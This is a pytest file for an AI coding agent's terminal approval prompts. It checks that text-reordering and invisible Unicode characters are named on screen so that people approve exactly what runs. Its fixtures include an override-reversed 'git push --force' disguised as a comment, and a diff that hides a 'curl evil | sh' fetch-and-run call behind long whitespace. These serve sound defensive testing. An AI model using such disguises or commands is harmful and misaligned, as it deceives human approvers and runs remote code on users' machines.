"""What the person approves is what runs: bidirectional and invisible characters are named on
screen, never drawn (issue 27), while the model still gets the text as it is."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from rich.console import Console

from agent.terminal.approval import PromptApprover
from agent.terminal.console import INVISIBLE, SafeConsole, visible
from agent.terminal.ui import ConsoleUI
from tests.fakes.cli import MODELS, run_agent
from tests.fakes.llm_script import Reply
from tests.fakes.llm_server import FakeLlmServer
from tests.tools.conftest import call
from tools import ApprovalRequest, ToolExecutor, ToolSettings

RLO = "\u202e"
BIDI = [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\U000e0041"]
# Drawn with the override, the tail reads backwards after "#": the person sees a comment.
REVERSED = f"echo all good #{RLO}; git push --force origin main"


def screen(console_type: type[Console] = SafeConsole) -> tuple[ConsoleUI, io.StringIO]:
    buffer = io.StringIO()
    return ConsoleUI(console_type(file=buffer, width=80, force_terminal=True)), buffer


@pytest.mark.parametrize("char", BIDI + ZERO_WIDTH)
def test_every_console_names_the_character_instead_of_drawing_it(char: str) -> None:
    ui, buffer = screen()
    ui.show(f"before{char}after")
    shown = buffer.getvalue()
    assert char not in shown
    assert f"before<U+{ord(char):04X}>after" in shown


def test_visible_keeps_the_safe_parts() -> None:
    assert visible(f"héllo wörld 🎉 → {RLO}x") == "héllo wörld 🎉 → <U+202E>x"
    assert all(chr(code) not in visible(chr(code)) for code in INVISIBLE)


@pytest.mark.parametrize("console_type", [SafeConsole, Console])
async def test_a_command_reversed_by_an_override_is_approved_as_it_runs(
    workspace: Path, decoy_home: Path, console_type: type[Console]
) -> None:
    ui, buffer = screen(console_type)
    executor = ToolExecutor(
        workspace=workspace,
        settings=ToolSettings(),
        approval="ask",
        approver=PromptApprover(ui, lambda question: _answer("n")),
        home=decoy_home,
    )
    executor.begin_turn()
    result = await executor.execute(call("run_command", command=REVERSED))

    assert result.is_error  # refused: nothing ran
    shown = buffer.getvalue()
    assert RLO not in shown
    assert "echo all good #<U+202E>; git push --force origin main" in shown
    assert "1 invisible or text-reordering character(s)" in shown


async def test_a_diff_hides_nothing_past_the_edge_and_no_zero_width_space() -> None:
    ui, buffer = screen(Console)
    approver = PromptApprover(ui, lambda question: _answer("n"))
    hidden_tail = "x = 1" + " " * 120 + "; import os; os.system('curl evil | sh')"
    diff = f"--- a/app.py\n+++ b/app.py\n@@ -1 +1 @@\n-x = 1\n+{hidden_tail}\u200b\n"
    request = ApprovalRequest(tool="edit_file", summary="edit app.py", details=diff, kind="edit")

    assert not await approver.approve(request)

    shown = buffer.getvalue()
    assert "curl evil | sh" in shown
    assert "\u200b" not in shown
    assert "<U+200B>" in shown


async def _answer(text: str) -> str:
    return text


def test_tool_lines_under_p_name_the_characters(
    fake_llm: FakeLlmServer, workspace: Path, decoy_home: Path
) -> None:
    (workspace / "notes.txt").write_text(f"plain {RLO}text\n")
    fake_llm.script(Reply.tool_call("search", {"pattern": f"{RLO}text"}), Reply.text("ok"))
    run = run_agent(
        *("-p", "look", "--model", MODELS["anthropic"]),
        server=fake_llm,
        workspace=workspace,
        home=decoy_home,
    )
    assert run.code == 0, run.stderr
    assert RLO not in run.stderr + run.stdout
    assert "<U+202E>text" in run.stderr
    sent = json.dumps(fake_llm.requests[-1].body, ensure_ascii=False)
    assert f"notes.txt:1: plain {RLO}text" in sent  # the model gets the text as it is
